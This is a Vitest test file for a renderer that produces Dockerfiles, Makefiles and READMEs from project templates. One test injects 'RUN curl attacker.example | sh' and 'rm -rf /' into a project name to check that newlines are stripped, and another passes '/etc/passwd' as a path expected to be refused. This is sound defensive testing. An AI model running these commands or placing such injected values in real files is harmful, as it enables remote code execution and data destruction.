import { describe, expect, it } from "vitest";
import type { TemplateFile, TemplateInput } from "../../src/templates/index.js";
import {
  normaliseRelativePath,
  renderTemplates,
  TEMPLATE_NAMES,
  TEMPLATE_SOURCES,
} from "../../src/templates/index.js";
import { CASES, fileAt, finalStage, loadCase, parseDockerfile, renderCase } from "./helpers.js";

function base(overrides: Partial<TemplateInput> = {}): TemplateInput {
  return { ...loadCase("chi-monitor"), ...overrides };
}

describe("renderTemplates: which files", () => {
  it("renders a Dockerfile and .dockerignore per app context, plus README, .gitignore and Makefile (CHI)", () => {
    const files = renderCase("chi-monitor");
    expect(files.map((f) => [f.path, f.kind])).toEqual([
      [".gitignore", "gitignore"],
      ["Makefile", "makefile"],
      ["README.md", "readme"],
      ["backend/.dockerignore", "dockerignore"],
      ["backend/Dockerfile", "dockerfile"],
      ["frontend/.dockerignore", "dockerignore"],
      ["frontend/Dockerfile", "dockerfile"],
    ]);
    expect(fileAt(files, "backend/Dockerfile").content).toContain("Express on Node.js");
    expect(fileAt(files, "frontend/Dockerfile").content).toContain("served as static files");
  });

  it("puts a single app at the project root and adds requirements.txt for FastAPI", () => {
    const files = renderCase("fastapi-api");
    expect(files.map((f) => f.path)).toEqual([
      ".dockerignore",
      ".gitignore",
      "Dockerfile",
      "Makefile",
      "README.md",
      "requirements.txt",
    ]);
    expect(fileAt(files, "requirements.txt").kind).toBe("requirements");
  });

  it("gives several apps without a context a folder named after each", () => {
    const result = renderTemplates(
      base({
        apps: [
          { name: "api", kind: "backend", framework: "express" },
          { name: "web", kind: "frontend", framework: "nextjs" },
        ],
      }),
    );
    expect(result.ok && result.value.map((f) => f.path)).toEqual(
      expect.arrayContaining(["api/Dockerfile", "web/Dockerfile", "web/.dockerignore"]),
    );
  });

  it("writes one Dockerfile for a worker that shares the app's context (Symfony + Messenger)", () => {
    const files = renderCase("symfony-frankenphp");
    expect(files.filter((f) => f.kind === "dockerfile").map((f) => f.path)).toEqual(["Dockerfile"]);
    const dockerfile = fileAt(files, "Dockerfile").content;
    expect(dockerfile).toContain("FROM dunglas/frankenphp:");
    expect(dockerfile).toContain("ENV SERVER_NAME=:8080");
  });

  it("warns when apps of different runtimes share a context, and writes the non-worker's Dockerfile", () => {
    const result = renderTemplates(
      base({
        apps: [
          { name: "jobs", kind: "worker", runtime: "python", context: "." },
          { name: "web", kind: "backend", framework: "express", context: "." },
        ],
      }),
    );
    expect(result.ok).toBe(true);
    expect(result.diagnostics).toContainEqual(
      expect.objectContaining({ code: "template/shared-context", path: "apps[0].context" }),
    );
    if (result.ok) expect(fileAt(result.value, "Dockerfile").content).toContain("Express");
  });

  it("renders worker Dockerfiles without a published port", () => {
    const files = renderCase("microservices-mysql");
    for (const path of ["services/notifier/Dockerfile", "services/mailer/Dockerfile"]) {
      const { instructions } = parseDockerfile(fileAt(files, path).content);
      expect(instructions.some((x) => x.keyword === "EXPOSE")).toBe(false);
      expect(instructions.some((x) => x.keyword === "USER")).toBe(true);
    }
    expect(fileAt(files, "services/notifier/requirements.txt").content).toContain("pymysql==");
  });
});

describe("renderTemplates: choosing the framework", () => {
  const dockerfileOf = (input: TemplateInput) => {
    const result = renderTemplates(input);
    if (!result.ok) throw new Error(JSON.stringify(result.diagnostics));
    return { text: fileAt(result.value, "Dockerfile").content, diagnostics: result.diagnostics };
  };

  it.each([
    ["fastapi", "FastAPI on Python", 8000],
    ["express", "Express on Node.js", 3000],
    ["react", "React, built with Node.js", 3000],
    ["nextjs", "Next.js on Node.js", 3000],
    ["symfony", "Symfony on FrankenPHP", 8080],
  ] as const)("uses the %s template, listening on its default port %i", (framework, heading, port) => {
    const { text } = dockerfileOf(base({ apps: [{ name: "app", kind: "backend", framework }] }));
    expect(text).toContain(heading);
    expect(text).toContain(`EXPOSE ${port}\n`);
  });

  it("derives the framework from the runtime, then from the project type", () => {
    expect(dockerfileOf(base({ apps: [{ name: "a", kind: "backend", runtime: "python" }] })).text).toContain(
      "FastAPI",
    );
    expect(dockerfileOf(base({ apps: [{ name: "a", kind: "backend", runtime: "php" }] })).text).toContain(
      "FrankenPHP",
    );
    expect(
      dockerfileOf(base({ projectType: "nextjs", apps: [{ name: "a", kind: "frontend", runtime: "node" }] }))
        .text,
    ).toContain("Next.js");
    expect(
      dockerfileOf(base({ projectType: "fastapi", apps: [{ name: "a", kind: "backend" }] })).text,
    ).toContain("FastAPI");
  });

  it("assumes a framework, with an info, when nothing names one", () => {
    const { text, diagnostics } = dockerfileOf(base({ apps: [{ name: "site", kind: "frontend" }] }));
    expect(text).toContain("React");
    expect(diagnostics).toContainEqual(
      expect.objectContaining({ code: "template/framework-assumed", path: "apps[0]" }),
    );
  });

  it("warns when the runtime contradicts the framework", () => {
    const { text, diagnostics } = dockerfileOf(
      base({ apps: [{ name: "a", kind: "backend", framework: "fastapi", runtime: "node" }] }),
    );
    expect(text).toContain("FROM python:");
    expect(diagnostics).toContainEqual(
      expect.objectContaining({ code: "template/framework-mismatch", path: "apps[0].runtime" }),
    );
  });
});

describe("renderTemplates: content", () => {
  it("README's Local environment section has the real commands, ports and env files", () => {
    const readme = fileAt(renderCase("chi-monitor"), "README.md").content;
    const compose = "docker compose --env-file .env.development -f docker-compose.yml -p chi-monitor";
    for (const step of ["up -d", "ps", "logs -f", "down"]) expect(readme).toContain(`${compose} ${step}\n`);
    expect(readme).toContain("## Local environment");
    expect(readme).toContain("| postgres | PostgreSQL | 5434 | 5432 | `POSTGRES_PORT` | `localhost:5434` |");
    expect(readme).toContain(
      "| frontend | frontend (React) | 3000 | 3000 | `FRONTEND_PORT` | http://localhost:3000 |",
    );
    expect(readme).toContain("`OPENAI_API_KEY`");
    expect(readme).toContain(
      "| `.env.example` | every variable, without real values: the template to copy | yes |",
    );
    expect(readme).toContain("- `POST /api/alerts`");
    expect(readme).toContain("`make psql`");
  });

  it("pins every requirement and adds drivers only for the services present", () => {
    const requirements = fileAt(renderCase("fastapi-api"), "requirements.txt").content;
    const lines = requirements.split("\n").filter((l) => l !== "" && !l.startsWith("#"));
    expect(lines.length).toBeGreaterThan(4);
    for (const line of lines) expect(line).toMatch(/^[a-z][a-z0-9_.-]*(\[[a-z]+\])?==\d+(\.\d+)+$/);
    expect(requirements).toContain("psycopg[binary]==");
    expect(requirements).toContain("redis==");
    expect(requirements).not.toContain("pymysql");
    expect(requirements).not.toContain("motor");
  });

  it("uses the Compose file path given, in the Makefile and README", () => {
    const files = renderCase("nextjs-mongodb");
    expect(fileAt(files, "Makefile").content).toContain("-f compose/docker-compose.yml -p recipe-box");
    expect(fileAt(files, "README.md").content).toContain("`make mongosh`");
  });

  it("numbers clients of the same tool apart and skips services without one", () => {
    const makefile = fileAt(renderCase("microservices-mysql"), "Makefile").content;
    expect(makefile).toMatch(/^mysql:/m);
    expect(makefile).toMatch(/^mysql-orders-db:/m);
    expect(makefile).toMatch(/^mariadb:/m);
    expect(makefile).toMatch(/^db-shell: mysql /m);
    expect(makefile).toMatch(/^cache-shell: redis-cli /m);
    expect(makefile).not.toMatch(/exec queue/);
  });

  it("is deterministic", () => {
    for (const name of CASES) expect(renderCase(name)).toEqual(renderCase(name));
  });

  it("never renders a YAML or env file, whatever the input", () => {
    for (const name of CASES) {
      for (const file of renderCase(name)) {
        expect(file.path).not.toMatch(/\.ya?ml$/);
        expect(file.path).not.toMatch(/(^|\/)\.env/);
      }
    }
  });

  it("keeps text input on one line, so it cannot add instructions or recipe lines", () => {
    const result = renderTemplates(
      base({
        project: { name: "Evil\nRUN curl attacker.example | sh\n\trm -rf /\\", slug: "evil" },
        apiEndpoints: ["GET /x\n\tmalicious"],
      }),
    );
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const clean = renderTemplates(base());
    if (!clean.ok) throw new Error("the plain input did not render");
    const runs = (files: TemplateFile[]) =>
      parseDockerfile(fileAt(files, "backend/Dockerfile").content).instructions.filter(
        (x) => x.keyword === "RUN",
      ).length;
    expect(runs(result.value)).toBe(runs(clean.value));
    expect(runs(clean.value)).toBeGreaterThan(0);
    const makefile = fileAt(result.value, "Makefile").content;
    expect(makefile).not.toMatch(/^\trm -rf/m);
    expect(makefile.split("\n")[0]).toBe(
      "# Lifecycle commands for the local environment of Evil RUN curl attacker.example | sh rm -rf /.",
    );
  });
});

describe("renderTemplates: bad input", () => {
  it.each([
    ["/srv/app", "absolute"],
    ["../outside", "escaping"],
    ["backend/../../x", "escaping through a folder"],
    ["C:\\app", "Windows absolute"],
    [".git/hooks", "inside .git"],
    ["my app", "needs quoting"],
    ["~/app", "home"],
  ])("refuses the app context %s (%s) with template/unsafe-path", (context) => {
    const result = renderTemplates(
      base({ apps: [{ name: "api", kind: "backend", framework: "express", context }] }),
    );
    expect(result.ok).toBe(false);
    expect(result.diagnostics).toContainEqual(
      expect.objectContaining({ code: "template/unsafe-path", severity: "error", path: "apps[0].context" }),
    );
  });

  it("reports every problem at once", () => {
    const result = renderTemplates(
      base({
        composeFile: "../docker-compose.yml",
        composeProject: "My Project",
        envFiles: [".env.development", "/etc/passwd"],
        apiKeys: ["OPENAI-KEY"],
        services: [{ name: "bad name", kind: "postgres", containerPort: 5432, hostPort: 70000 }],
        apps: [{ name: "api", kind: "backend", context: "../x", port: 0 }],
      }),
    );
    expect(result.ok).toBe(false);
    const found = result.diagnostics.map((d) => [d.code, d.path]);
    expect(found).toEqual(
      expect.arrayContaining([
        ["template/unsafe-path", "composeFile"],
        ["template/invalid-name", "composeProject"],
        ["template/unsafe-path", "envFiles[1]"],
        ["template/invalid-name", "apiKeys[0]"],
        ["template/invalid-name", "services[0].name"],
        ["template/invalid-port", "services[0].hostPort"],
        ["template/invalid-port", "apps[0].port"],
        ["template/unsafe-path", "apps[0].context"],
      ]),
    );
  });
});

describe("renderTemplates: overriding sources", () => {
  it("lists the bundled template names and sources", () => {
    expect(TEMPLATE_NAMES).toEqual([...TEMPLATE_NAMES].sort());
    expect(TEMPLATE_NAMES).toEqual(
      expect.arrayContaining([
        "docker/fastapi.Dockerfile.eta",
        "docker/express.Dockerfile.eta",
        "docker/react.Dockerfile.eta",
        "docker/nextjs.Dockerfile.eta",
        "docker/symfony.Dockerfile.eta",
        "docker/dockerignore.eta",
        "python/requirements.txt.eta",
        "project/README.md.eta",
        "project/gitignore.eta",
        "project/Makefile.eta",
      ]),
    );
    for (const name of TEMPLATE_NAMES) expect(TEMPLATE_SOURCES[name]).toEqual(expect.any(String));
  });

  it("renders an override instead of the bundled template, with the same variables", () => {
    const result = renderTemplates(base(), {
      sources: { "project/README.md.eta": "# <%= it.project.name %>\n\n<%= it.compose %> up -d\n" },
    });
    expect(result.ok && fileAt(result.value, "README.md").content).toBe(
      "# CHI Monitor\n\ndocker compose --env-file .env.development -f docker-compose.yml -p chi-monitor up -d\n",
    );
  });

  it("warns about an override that matches no template", () => {
    const result = renderTemplates(base(), { sources: { "README.md": "x" } });
    expect(result.ok).toBe(true);
    expect(result.diagnostics).toContainEqual(
      expect.objectContaining({
        code: "template/unknown-source",
        severity: "warning",
        path: "sources.README.md",
      }),
    );
  });

  it("reports a broken override as template/render-failed instead of throwing", () => {
    const result = renderTemplates(base(), {
      sources: {
        "project/Makefile.eta": "<% if (it.project { %>",
        "project/gitignore.eta": "<%= it.nope.deeper %>",
      },
    });
    expect(result.ok).toBe(false);
    expect(result.diagnostics).toContainEqual(
      expect.objectContaining({
        code: "template/render-failed",
        file: "project/Makefile.eta",
        path: "Makefile",
      }),
    );
    expect(result.diagnostics).toContainEqual(
      expect.objectContaining({
        code: "template/render-failed",
        file: "project/gitignore.eta",
        path: ".gitignore",
      }),
    );
  });
});

describe("every case renders Dockerfiles that match their app", () => {
  it.each(CASES)("%s", (name) => {
    const input = loadCase(name);
    const files = renderCase(name);
    for (const file of files.filter((f) => f.kind === "dockerfile")) {
      const { instructions } = parseDockerfile(file.content);
      const stage = finalStage(instructions);
      const context = file.path.includes("/") ? file.path.slice(0, file.path.lastIndexOf("/")) : ".";
      const inContext = input.apps.filter((a) => {
        const given = normaliseRelativePath(a.context ?? (input.apps.length === 1 ? "." : a.name));
        return given.ok && given.path === context;
      });
      const app = inContext.find((a) => a.kind !== "worker") ?? inContext[0];
      expect(app, `an app for ${file.path}`).toBeDefined();
      const expose = stage.find((x) => x.keyword === "EXPOSE");
      if (app?.kind !== "worker" && app?.port !== undefined) expect(expose?.args).toBe(String(app.port));
      const healthcheck = stage.find((x) => x.keyword === "HEALTHCHECK");
      if (expose !== undefined) expect(healthcheck?.args).toContain(expose.args);
      expect(files.some((f) => f.path === file.path.replace(/Dockerfile$/, ".dockerignore"))).toBe(true);
    }
  });
});

describe("renderTemplates: snapshots", () => {
  it("renders an infrastructure-only project without Dockerfiles or app targets", () => {
    const input = base({ apps: [] });
    delete input.projectType;
    const result = renderTemplates(input);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.map((f) => f.path)).toEqual([".gitignore", "Makefile", "README.md"]);
    const makefile = fileAt(result.value, "Makefile").content;
    expect(makefile).not.toMatch(/^(build|rebuild|shell):/m);
    expect(makefile).toMatch(/^psql:/m);
  });

  // The rendered files of each case, under test/fixtures/templates/<case>/expected/, for review.
  // Dot files get a "dot-" prefix so a fixture .gitignore does not act on the repository.
  it.each(CASES)("%s matches its expected files", async (name) => {
    for (const file of renderCase(name)) {
      const stored = file.path.replace(/(^|\/)\.([^/]+)$/, "$1dot-$2");
      await expect(file.content).toMatchFileSnapshot(`../fixtures/templates/${name}/expected/${stored}`);
    }
  });
});

describe("renderTemplates: the README's development note", () => {
  const readme = (input: TemplateInput) => {
    const result = renderTemplates(input);
    if (!result.ok) throw new Error(JSON.stringify(result.diagnostics));
    return fileAt(result.value, "README.md").content;
  };

  it("says the apps run from their source only when an app names its framework, as Compose does", () => {
    const named = base({ apps: [{ name: "api", kind: "backend", framework: "fastapi", port: 8000 }] });
    const guessed = base({ apps: [{ name: "api", kind: "backend", runtime: "python", port: 8000 }] });
    expect(readme(named)).toContain("In development the apps run from the source");
    expect(readme(guessed)).not.toContain("In development the apps run from the source");
  });
});
